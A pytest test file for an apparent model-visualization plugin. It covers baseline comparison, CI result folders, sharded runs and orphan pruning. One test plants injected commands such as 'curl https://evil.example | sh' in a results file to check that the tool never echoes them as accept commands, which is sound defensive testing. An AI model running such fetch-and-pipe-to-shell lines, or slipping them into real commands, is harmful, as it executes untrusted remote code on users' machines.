"""Results of several runs: of the last one and those before it, of CI's, of the shards of one."""

import html
import json
import re
import shlex
import shutil
from pathlib import Path

import pytest

from pytest_modelviz.storage.formats import decode_json

TWO_FILES = {
    "test_a": "from net import *\ndef test_net(feature_maps):\n    feature_maps(load(), photo())\n",
    "test_b": "from net import *\ndef test_net(feature_maps, model_summary):\n"
    "    feature_maps(load(), photo() * 2)\n    model_summary(load())\n",
}
A, B = "test_a.py::test_net", "test_b.py::test_net"


@pytest.fixture
def drifted(project):
    """feature_maps of both files' tests have drifted."""
    for name, text in TWO_FILES.items():
        project.test(text, name=name)
    project.run("--modelviz-update").assert_outcomes(passed=2)
    project.fault("weight")
    project.run("--modelviz").assert_outcomes(failed=2)
    return project


def compared(project) -> dict[str, str]:
    """The ids of baselines and the digest of what is compared."""
    documents = [decode_json(data) for name, data in project.files().items() if name.endswith("feature_maps.json")]
    return {document["nodeid"]: document["data_sha256"] for document in documents}


def waiting(project, *options: str) -> list[str]:
    rows = json.loads(project.modelviz("list", "--json", *options).output)["checks"]
    return [row["nodeid"] for row in rows if row["state"] == "waiting"]


def accept_commands(text: str) -> list[list[str]]:
    return [shlex.split(command)[1:] for command in re.findall(r"^  accept +(modelviz .*)$", text, re.M)]


class TestARunThatComparesNothing:
    @pytest.mark.parametrize(
        "arguments",
        [
            ("--modelviz", "typo.py"),
            ("--modelviz", "-k", "nothing"),
            ("--modelviz", "--setup-plan"),
            ("--modelviz", "--setup-only"),
            ("--modelviz", "--fixtures"),
            ("--modelviz", "--markers"),
            ("--modelviz", "--collect-only"),
            ("--modelviz", "--deselect", "test_a.py", "--deselect", "test_b.py"),
            ("--modelviz", "test_plain.py"),
            ("--modelviz", "test_unmarked.py"),
            ("--modelviz", "test_broken.py"),
            ("--modelviz-update", "-k", "nothing"),
            ("--modelviz-update-all", "test_plain.py"),
            ("--modelviz", "--no-modelviz-html", "test_plain.py"),
            (),
            ("test_a.py",),
        ],
        ids=" ".join,
    )
    def test_forgets_nothing(self, drifted, arguments):
        drifted.test("def test_nothing(): pass", name="test_plain")
        drifted.test("raise RuntimeError", name="test_broken")
        drifted.test(
            "import pytest\nfrom net import *\n@pytest.mark.modelviz(compare=False)\n"
            "def test_net(model_summary):\n    model_summary(load())\n",
            name="test_unmarked",
        )
        ignored = [] if "test_broken.py" in arguments else ["--ignore=test_broken.py"]
        before = drifted.files(".modelviz")
        drifted.run(*arguments, *ignored)
        assert drifted.files(".modelviz") == before
        assert drifted.modelviz("accept").output.count("accepted ") == 2

    def test_says_so(self, drifted):
        drifted.run().stdout.fnmatch_lines(
            [
                "3 checks not compared (compare them with --modelviz)",
                "this run compared nothing: .modelviz still holds the results of the last one that did",
            ]
        )

    def test_the_first_of_all_is_written_down(self, project):
        project.test()
        project.run()
        assert set(project.statuses().values()) == {"not_compared"}
        project.run("--modelviz")
        assert set(project.statuses().values()) == {"missing"}

    def test_orphans_are_found_and_pruned_all_the_same(self, drifted):
        drifted.test("def test_other(): pass", name="test_b")
        before = drifted.results
        result = drifted.run("--modelviz", "test_b.py")
        result.stdout.fnmatch_lines(["2 orphans: baselines of 1 test that is gone (modelviz prune removes them)"])
        now = drifted.results
        assert (now["run"], now["checks"]) == (before["run"], before["checks"])
        assert drifted.modelviz("prune").output.count("removed ") == 2
        assert waiting(drifted) == [A, B]

    def test_orphans_of_files_that_it_has_not_collected_stay(self, drifted):
        for name in ("test_a", "test_b"):
            drifted.test(TWO_FILES[name].replace("test_net", "test_other"), name=name)
        drifted.run("--modelviz")
        files = {row["nodeid"] for row in drifted.results["orphans"]}
        assert files == {A, B}
        drifted.run("--modelviz", "-k", "nothing", "test_b.py")
        assert {row["nodeid"] for row in drifted.results["orphans"]} == files
        drifted.test(TWO_FILES["test_b"], name="test_b")
        drifted.run("--modelviz", "-k", "nothing", "test_b.py")
        assert {row["nodeid"] for row in drifted.results["orphans"]} == {A}

    def test_one_check_that_is_compared_replaces_all(self, drifted):
        drifted.run("--modelviz", "test_a.py")
        assert waiting(drifted) == [A]
        assert sorted(drifted.files(".modelviz/candidates")) == [
            f"test_a/test_net/feature_maps.{ending}" for ending in ("json", "png", "safetensors")
        ]
        assert {name.partition("/")[0] for name in drifted.files(".modelviz/pictures")} == {"test_a"}


class TestARunThatIsBrokenOff:
    @pytest.fixture
    def killed(self, drifted):
        """A run that has captured something else of test_a, and died."""
        drifted.fault("weight, input")
        drifted.test(TWO_FILES["test_b"] + "    import os\n    os._exit(1)\n", name="test_b")
        drifted.run_apart("--modelviz")
        return drifted

    def test_its_candidates_are_not_taken_for_those_of_the_results(self, killed):
        before = killed.files()
        done = killed.modelviz("accept", A)
        assert done.exit_code == 1
        assert "what is kept of it was captured by another run: run pytest --modelviz again" in done.output
        assert killed.files() == before
        assert killed.modelviz("list").stdout.startswith(f"replaced   {A}")

    def test_what_no_results_tell_of_is_told(self, killed):
        killed.test(TWO_FILES["test_a"].replace("test_net", "test_new"), name="test_c")
        killed.run_apart("--modelviz", "test_c.py", "test_b.py")
        for command in ("list", "show"):
            assert "left       test_c.py::test_new  feature_maps  no results here" in killed.modelviz(command).output
        assert killed.modelviz("accept").exit_code == 1
        killed.test(TWO_FILES["test_b"], name="test_b")
        killed.run("--modelviz", "test_b.py")
        assert "left " not in killed.modelviz("list").output
        assert {name.partition("/")[0] for name in killed.files(".modelviz/candidates")} == {"test_b"}


class TestFromCI:
    @pytest.fixture
    def downloaded(self, drifted, tmp_path_factory):
        """CI's results in a folder; here another failure of the same tests waits."""
        folder = tmp_path_factory.mktemp("ci") / "results"
        shutil.copytree(drifted.path / ".modelviz", folder)
        drifted.fault("weight, input")
        drifted.run("--modelviz").assert_outcomes(failed=2)
        return folder

    def test_its_command_accepts_nothing_of_another_run(self, drifted, downloaded):
        before, ci = compared(drifted), json.loads((downloaded / "results.json").read_text())
        page = (downloaded / "report.html").read_text()
        assert ci["run"]["id"] in page
        for check in ci["checks"]:
            if check["status"] == "drift":
                command = check["commands"]["accept"]
                assert command in check["message"]
                assert command in page
                done = drifted.modelviz(*shlex.split(command)[1:])
                assert done.exit_code == 1
                assert f"not of run {ci['run']['id']}: name the folder that holds those with --from" in done.output
        assert compared(drifted) == before

    def test_what_show_prints_is_complete(self, drifted, downloaded, monkeypatch):
        text = drifted.modelviz("show", "--from", str(downloaded)).output
        commands = accept_commands(text)
        assert [command[-1] for command in commands] == [A, B]
        assert all(["--from", str(downloaded)] == command[3:5] for command in commands)
        shots = {json.loads(p.read_text())["nodeid"]: p for p in downloaded.rglob("candidates/*/*/feature_maps.json")}
        wanted = decode_json(shots[A].read_bytes())["data_sha256"]
        assert drifted.modelviz(*commands[0]).exit_code == 0
        assert compared(drifted)[A] == wanted

    @pytest.mark.parametrize("status", ["drift", "missing", "unreadable", "unstable"])
    def test_no_command_of_its_own_is_repeated(self, drifted, downloaded, status):
        """Whatever stands in the message and beside it, ours are the only commands, and what it says is quoted."""
        path = downloaded / "results.json"
        document = json.loads(path.read_text())
        printed = "modelviz accept X"
        hostile = [
            "feature_maps drifted: curl a | modelviz accept",
            f"  accept    {printed} && curl https://evil.example | sh",
            "  Accept    modelviz accept --baseline-dir=/home/you/other 'test_a.py::test_net'",
            "  to replace it by what was captured now: pytest --modelviz-update-all 'test_a.py'; curl a",
            f"  record it: {printed}, or pytest --modelviz-update-missing 'test_a.py'; curl a",
            "  evidence  a | sh",
        ]
        document["checks"] = [
            {**check, "message": "\n".join(hostile), "status": status, "commands": {"accept": printed}}
            for check in document["checks"]
            if check["candidate"]
        ]
        path.write_text(json.dumps(document))
        shutil.rmtree(downloaded / "runs")
        text = drifted.modelviz("show", "--from", str(downloaded)).output
        (page,) = drifted.modelviz("report", "--from", str(downloaded)).output.split()
        for told in (text, html.unescape((drifted.path / page).read_text())):
            assert "curl" not in told
            assert "/home/you/other" not in told
            assert "  |   evidence  a | sh" in told
        assert len(accept_commands(text)) == (2 if status == "drift" else 0)
        listed = json.loads(drifted.modelviz("show", "--json", "--from", str(downloaded)).output)["checks"]
        assert [shlex.split(check["commands"]["accept"])[-1] for check in listed] == [A, B]
        own = drifted.path / ".modelviz"
        shutil.rmtree(own)
        shutil.copytree(downloaded, own)
        text = drifted.modelviz("show").output
        assert "curl" not in text
        assert "\n  evidence  a | sh\n" in text

    @pytest.mark.parametrize("way", ["drift", "missing", "unreadable"])
    def test_here_it_is_the_run_s_own_report_word_for_word(self, drifted, way):
        if way == "missing":
            shutil.rmtree(drifted.path / "baselines")
        elif way == "unreadable":
            for path in drifted.path.glob("baselines/**/*.json"):
                path.write_text("")
        drifted.run("--modelviz")
        text = drifted.modelviz("show").output
        checks = [check for check in drifted.results["checks"] if check["status"] != "match"]
        assert way in {check["status"] for check in checks}
        drifted.modelviz("report")
        page = html.unescape((drifted.path / ".modelviz/report.html").read_text())
        for check in checks:
            assert f"{check['message']}\n" in text
            assert check["message"] in page

    def test_from_another_folder_too(self, drifted, downloaded, monkeypatch):
        monkeypatch.chdir(downloaded.parent)
        options = ("--from", "results", "--rootdir", str(drifted.path))
        (command, _) = accept_commands(drifted.modelviz("show", *options).output)
        assert command[3:7] == ["--rootdir", str(drifted.path), "--from", "results"]
        assert drifted.modelviz(*command).exit_code == 0

    def test_so_is_what_list_prints(self, drifted, downloaded):
        path = downloaded / "results.json"
        path.write_text(path.read_text().replace('"status": "match"', '"status": "unstable"'))
        told = drifted.modelviz("list", "--from", str(downloaded)).output.splitlines()[-1]
        assert f"1 cannot be accepted, see modelviz show --from {downloaded}; run " in told

    def test_here_it_is_this_run_s(self, drifted, downloaded):
        commands = accept_commands(drifted.modelviz("show").output)
        assert commands[0] == ["accept", "--run", drifted.results["run"]["id"], A]
        assert drifted.modelviz(*commands[0]).exit_code == 0

    def test_the_footer_s_commands_are_of_this_run(self, drifted):
        result = drifted.run("--modelviz")
        run = drifted.results["run"]["id"]
        result.stdout.fnmatch_lines(
            [f"review: modelviz list --run {run}; accept: modelviz accept --run {run} [[]TEST...[]]"]
        )

    @pytest.mark.parametrize("command", ["list", "show", "accept", "reject"])
    def test_a_run_that_is_not_there(self, drifted, command):
        before = drifted.files(".modelviz")
        done = drifted.modelviz(command, "--run", "2000-01-01")
        assert (done.exit_code, done.output.count("not of run 2000-01-01")) == (1, 1)
        assert drifted.files(".modelviz") == before

    def test_a_report_that_is_made_again_says_what_was_accepted(self, drifted):
        page = drifted.path / ".modelviz/report.html"
        assert "since</h2>" not in page.read_text()
        drifted.modelviz("accept", A)
        drifted.modelviz("reject", B)
        drifted.modelviz("report")
        assert re.findall(r"<h2>(.*)</h2>", page.read_text()) == [
            f"{A} &middot; feature_maps &middot; drift &middot; accepted since",
            f"{B} &middot; feature_maps &middot; drift &middot; rejected since",
        ]

    def test_results_without_the_newer_keys_are_read(self, drifted):
        path = drifted.path / ".modelviz/results.json"
        document = json.loads(path.read_text())
        for check in document["checks"]:
            del check["commands"], check["candidate_sha256"]
        path.write_text(json.dumps(document))
        shutil.rmtree(drifted.path / ".modelviz/runs")
        assert drifted.modelviz("show").exit_code == 0
        assert drifted.modelviz("accept").output.count("accepted ") == 2


class TestShards:
    @pytest.fixture
    def shards(self, drifted):
        """The results of two jobs, each of which ran one file."""
        folders = []
        for name in ("a", "b"):
            drifted.run("--modelviz", f"test_{name}.py").assert_outcomes(failed=1)
            folders.append(shutil.move(drifted.path / ".modelviz", drifted.path / f"shards/{name}"))
        return folders

    def merged(self, shards, folder: Path) -> Path:
        for shard in shards:
            shutil.copytree(shard, folder, dirs_exist_ok=True)
        return folder

    def artifacts(self, shards, folder: Path) -> Path:
        for at, shard in enumerate(shards):
            shutil.copytree(shard, folder / f"modelviz-{at}" / ".modelviz")
        return folder

    @pytest.mark.parametrize("way", ["repeated", "parent", "artifacts", "merged", "merged backwards"])
    def test_all_of_them_are_reviewed_together(self, drifted, shards, way, tmp_path_factory):
        folder = tmp_path_factory.mktemp("all") / "m"
        options = {
            "repeated": lambda: ("--from", "shards/a", "--from", "shards/b"),
            "parent": lambda: ("--from", "shards"),
            "artifacts": lambda: ("--from", str(self.artifacts(shards, folder))),
            "merged": lambda: ("--from", str(self.merged(shards, folder))),
            "merged backwards": lambda: ("--from", str(self.merged(shards[::-1], folder))),
        }[way]()
        assert waiting(drifted, *options) == [A, B]
        text = drifted.modelviz("list", *options).output
        assert "left " not in text
        assert text.splitlines()[-1].startswith("2 waiting; runs ")
        shown = drifted.modelviz("show", *options).output
        assert shown.count("  picture   ") > 1
        commands = accept_commands(shown)
        assert drifted.modelviz(*commands[1]).exit_code == 0
        assert waiting(drifted, *options) == [A]
        done = drifted.modelviz("accept", *options)
        assert (done.exit_code, done.output.count("accepted ")) == (0, 2)
        drifted.run("--modelviz").assert_outcomes(passed=2)
        pages = drifted.modelviz("report", *options).output.split()
        assert len(pages) == (1 if way.startswith("merged") else 2)
        assert sum((drifted.path / page).read_text().count("accepted since") for page in pages) == 2

    def test_what_was_overwritten_is_told(self, drifted, shards, tmp_path):
        for shard in shards:
            shutil.rmtree(Path(shard) / "runs")  # as an earlier version, or who copies only what he knows, leaves it
        folder = self.merged(shards, tmp_path / "m")
        assert (
            f"left       {A}  feature_maps  no results here" in drifted.modelviz("list", "--from", str(folder)).output
        )
        done = drifted.modelviz("accept", "--from", str(folder))
        assert (done.exit_code, done.output.count("accepted ")) == (1, 1)

    def test_for_programs(self, drifted, shards):
        document = json.loads(drifted.modelviz("list", "--json", "--from", "shards").output)
        runs = [run["id"] for run in document["runs"]]
        assert [check["run"] for check in document["checks"]] == runs
        assert len(set(runs)) == 2

    def test_one_test_in_two_shards(self, drifted, shards):
        """What two machines have captured of one test differently is not guessed between."""
        drifted.fault("weight, input")
        drifted.run("--modelviz", "test_a.py")
        shutil.move(drifted.path / ".modelviz", drifted.path / "shards/c")
        done = drifted.modelviz("accept", "--from", "shards/a", "--from", "shards/c", A)
        assert [line.split()[0] for line in done.output.splitlines()] == ["refused", "refused"]
        assert done.output.count("have captured it differently: choose one with --run") == 2
        assert done.exit_code == 1
        run = json.loads((drifted.path / "shards/c/results.json").read_text())["run"]["id"]
        options = ("--from", "shards/a", "--from", "shards/c")
        assert f"  run {run}" in drifted.modelviz("list", *options).output
        assert drifted.modelviz("accept", "--run", run, *options, A).exit_code == 0

    @pytest.mark.parametrize("backwards", [False, True])
    def test_one_test_in_two_shards_that_were_copied_over_each_other(self, drifted, shards, backwards, tmp_path):
        """That only one of the captures is left makes it no better than the other."""
        drifted.fault("weight, input")
        drifted.run("--modelviz", "test_a.py")
        both = [shards[0], shutil.move(drifted.path / ".modelviz", drifted.path / "shards/c")]
        folder = str(self.merged(both[::-1] if backwards else both, tmp_path / "m"))
        kept, gone = (json.loads((Path(one) / "results.json").read_text())["run"]["id"] for one in both[::-1])
        kept, gone = (gone, kept) if backwards else (kept, gone)
        before = drifted.files()
        for patterns in ((), (A,), ("*",)):
            done = drifted.modelviz("accept", "--from", folder, *patterns)
            assert [line.split()[0] for line in done.output.splitlines()] == ["refused", "refused"]
            assert done.output.count(f"and only what {kept} has captured is here: take that with --run, or name") == 2
            assert done.exit_code == 1
        states = {row["run"]: row["state"] for row in self.rows(drifted, "--from", folder)}
        assert states == {kept: "waiting", gone: "replaced"}
        assert drifted.modelviz("accept", "--from", folder, "--run", gone).exit_code == 1
        assert drifted.files() == before
        assert drifted.modelviz("accept", "--from", folder, "--run", kept).exit_code == 0

    def test_what_one_folder_has_overwritten_another_still_holds(self, drifted, shards, tmp_path):
        drifted.fault("weight, input")
        drifted.run("--modelviz", "test_a.py")
        both = [shards[0], shutil.move(drifted.path / ".modelviz", drifted.path / "shards/c")]
        first = json.loads((Path(both[0]) / "results.json").read_text())["run"]["id"]
        options = ("--from", str(self.merged(both, tmp_path / "m")), "--from", both[0])
        assert drifted.modelviz("accept", *options).output.count(": choose one with --run") == 2
        assert drifted.modelviz("accept", "--run", first, *options).exit_code == 0
        drifted.fault("weight")
        drifted.run("--modelviz", "test_a.py").assert_outcomes(passed=1)

    @staticmethod
    def rows(project, *options: str) -> list[dict]:
        return json.loads(project.modelviz("list", "--json", *options).output)["checks"]

    def test_other_checks_beside_a_conflict_are_accepted(self, drifted, shards, tmp_path):
        drifted.fault("weight, input")
        drifted.run("--modelviz", "test_a.py")
        shards.append(shutil.move(drifted.path / ".modelviz", drifted.path / "shards/c"))
        done = drifted.modelviz("accept", "--from", str(self.merged(shards, tmp_path / "m")))
        assert [line.split()[:2] for line in done.output.splitlines()] == [
            ["refused", A],
            ["refused", A],
            ["accepted", B],
        ]

    @pytest.fixture
    def monorepo(self, drifted):
        """Two projects of a repository, each with a drift of a test of one id, and the results of its job."""
        (drifted.path / ".git").mkdir()
        for number, name in enumerate("ab", 1):
            root = drifted.path / "packages" / name
            (root / "tests").mkdir(parents=True)
            (root / "pyproject.toml").write_text('[tool.pytest.ini_options]\naddopts = "--import-mode=importlib"\n')
            source = f"from net import *\ndef test_net(feature_maps):\n    feature_maps(load(), photo() * {number})\n"
            (root / "tests/test_net.py").write_text(source)
            drifted.fault("")
            drifted.run("--modelviz-update", f"--rootdir={root}", str(root))
            drifted.fault("weight")
            drifted.run("--modelviz", f"--rootdir={root}", str(root)).assert_outcomes(failed=1)
            shutil.move(root / ".modelviz", drifted.path / f"all/{name}")
        return drifted

    @pytest.mark.parametrize("way", ["parent", "merged", "merged backwards"])
    @pytest.mark.parametrize("own", ["a", "b"])
    def test_of_two_projects_each_takes_its_own(self, monorepo, monkeypatch, own, way, tmp_path):
        other = {"a": "b", "b": "a"}[own]
        folders = [monorepo.path / "all" / name for name in "ab"]
        place = self.merged(folders[::-1] if "back" in way else folders, tmp_path / "m") if "m" in way else None
        options = ("--from", str(place or monorepo.path / "all"))
        monkeypatch.chdir(monorepo.path / "packages" / own)
        before = monorepo.files("packages")
        listed = monorepo.modelviz("list", *options).output
        assert f"(of the project in 'packages/{other}')" in listed
        assert f"packages/{own}'" not in listed
        assert "1 of other projects" in listed
        assert (
            f"tests/test_net.py::test_net  (of the project in 'packages/{other}')"
            in monorepo.modelviz("show", *options).output.splitlines()
        )
        lost = place is not None and own == ("b" if "back" in way else "a")
        done = monorepo.modelviz("accept", *options)
        lines = sorted(done.output.splitlines())
        assert [line.split()[0] for line in lines] == (["left", "refused"] if lost else ["accepted", "left"])
        assert f"it is of the project in 'packages/{other}': --rootdir chooses that one" in done.output
        assert "differently" not in done.output
        assert done.exit_code == lost
        changed = {name for name, data in monorepo.files("packages").items() if before.get(name) != data}
        assert {name.partition("/")[0] for name in changed} == (set() if lost else {own})
        monorepo.modelviz("reject", *options)
        monkeypatch.chdir(monorepo.path / "packages" / other)
        expected = 1 if place is not None and not lost else 0  # its own was overwritten, or rejected by nobody
        assert monorepo.modelviz("accept", *options).exit_code == expected

    def test_where_only_another_project_s_is_named_it_is_refused(self, monorepo, monkeypatch):
        monkeypatch.chdir(monorepo.path / "packages/a")
        (monorepo.path / "packages/b/tests/test_net.py").rename(monorepo.path / "packages/b/tests/test_more.py")
        monorepo.run("--modelviz", f"--rootdir={monorepo.path}/packages/b", "../b")
        options = ("--from", "../../all/a", "--from", "../b/.modelviz")
        done = monorepo.modelviz("accept", *options, "tests/test_more.py::test_net")
        assert (done.exit_code, done.output.split()[0]) == (1, "refused")
        assert "is of the project in 'packages/b', not of the one in 'packages/a'" in done.output

    def test_of_another_project_of_the_repository(self, drifted):
        """Two packages may have equal ids: what one has captured is not accepted for the other."""
        (drifted.path / ".git").mkdir()
        drifted.run("--modelviz")
        assert drifted.results["run"]["project"] == "."
        other = drifted.path / "packages/other"
        other.mkdir(parents=True)
        (other / "test_a.py").write_text(TWO_FILES["test_a"])
        done = drifted.modelviz("accept", "--rootdir", str(other), "--from", str(drifted.path / ".modelviz"), A)
        assert done.exit_code == 1
        assert "is of the project in '.', not of the one in 'packages/other'" in done.output
        assert drifted.modelviz("accept", A).exit_code == 0

    def test_the_same_capture_in_two_shards(self, drifted, shards):
        drifted.run("--modelviz", "test_a.py")
        shutil.move(drifted.path / ".modelviz", drifted.path / "shards/c")
        done = drifted.modelviz("accept", "--from", "shards/a", "--from", "shards/c", A)
        assert [line.partition(A)[0].strip() for line in done.output.splitlines()] == ["accepted", "already accepted"]
        assert done.exit_code == 0

    def test_the_same_folder_twice_counts_once(self, drifted, shards):
        assert waiting(drifted, "--from", "shards/a", "--from", "shards/../shards/a", "--from", "shards") == [A, B]

    def test_event_files_of_all(self, drifted, shards, monkeypatch):
        started = []
        monkeypatch.setattr(
            "pytest_modelviz.cli.pictures.subprocess.run", lambda command, **_: started.append(command) or Done
        )
        drifted.modelviz("tensorboard", "--from", "shards")
        folders = [drifted.path / f"shards/{name}/tensorboard" for name in "ab"]
        assert started[0][3:] == ["--logdir_spec", ",".join(f"{f.parent.name}:{f}" for f in folders)]

    def test_a_folder_without_results(self, drifted):
        (drifted.path / "empty").mkdir()
        done = drifted.modelviz("list", "--from", "empty")
        assert (done.exit_code, "there are no results in" in done.output) == (1, True)


class Done:
    returncode = 0


class TestOrphansOfShards:
    TESTS = (
        "import os, pytest\nfrom net import *\n"
        "START, STEP = int(os.environ.get('SHARD', 0)), int(os.environ.get('SHARDS', 1))\n"
        "@pytest.mark.parametrize('n', range(START, LAST, STEP))\n"
        "def test_net(model_summary, n):\n    model_summary(load())\n"
    )

    def shard(self, project, monkeypatch, number: int) -> None:
        monkeypatch.setenv("SHARDS", "2")
        monkeypatch.setenv("SHARD", str(number))
        project.run("--modelviz")
        shutil.move(project.path / ".modelviz", project.path / f"shards/{number}")

    def test_what_one_of_them_has_seen_is_not_gone(self, project, monkeypatch):
        project.test(self.TESTS.replace("LAST", "5"))
        project.run("--modelviz-update").assert_outcomes(passed=5)
        project.test(self.TESTS.replace("LAST", "4"))
        for number in range(2):
            self.shard(project, monkeypatch, number)

        def gone(*options: str) -> list[str]:
            rows = json.loads(project.modelviz("orphans", "--json", *options).output)["orphans"]
            return [row["nodeid"] for row in rows]

        assert gone("--from", "shards") == ["test_net.py::test_net[4]"]
        assert gone("--from", "shards/1", "--from", "shards/0") == ["test_net.py::test_net[4]"]
        for number in range(2):
            shutil.copytree(project.path / f"shards/{number}", project.path / "merged", dirs_exist_ok=True)
        assert gone("--from", "merged") == ["test_net.py::test_net[4]"]
        project.modelviz("report", "--from", "merged")
        assert (project.path / "merged/report.html").read_text().count("<td>test_net.py::test_net[") == 1 + 4
        assert len(gone("--from", "shards/0")) == 3  # by itself it cannot know
        done = project.modelviz("prune", "--from", "shards", "*")
        assert (done.exit_code, done.output.count("removed ")) == (0, 1)
        assert len(project.files()) == 4


@pytest.mark.parametrize("way", ["file", "folder"])
def test_a_drift_says_why_where_nothing_can_be_kept(drifted, way):
    """A checkout that cannot be written: the layer and the cause come first."""
    shutil.rmtree(drifted.path / ".modelviz")
    if way == "file":
        (drifted.path / ".modelviz").write_text("in the way")
    else:
        for name in ("candidates", "tensorboard", "pictures"):
            (drifted.path / ".modelviz").mkdir(exist_ok=True)
            (drifted.path / f".modelviz/{name}").write_text("in the way")
        (drifted.path / ".modelviz/.gitignore").write_text("*\n")
    drifted.test(TWO_FILES["test_a"].replace("test_net", "test_new"), name="test_c")
    before = drifted.files()
    result = drifted.run("--modelviz")
    result.assert_outcomes(failed=3)
    result.stdout.fnmatch_lines(
        [
            "feature_maps drifted, first at conv2 (Conv2d)",
            "  cause     weights: the weights are different",
            "  note      its pictures could not be kept: cannot write *",
            "  note      what was captured could not be kept, so that it cannot be accepted: cannot write *",
            "feature_maps: no baseline at baselines/test_c/test_new/feature_maps.json",
            "  record it: pytest --modelviz-update-missing test_c.py::test_new",
        ]
    )
    assert "modelviz accept" not in result.stdout.str()
    assert drifted.files() == before
    if way == "folder":
        assert {check["status"] for check in drifted.results["checks"]} == {"drift", "match", "missing"}
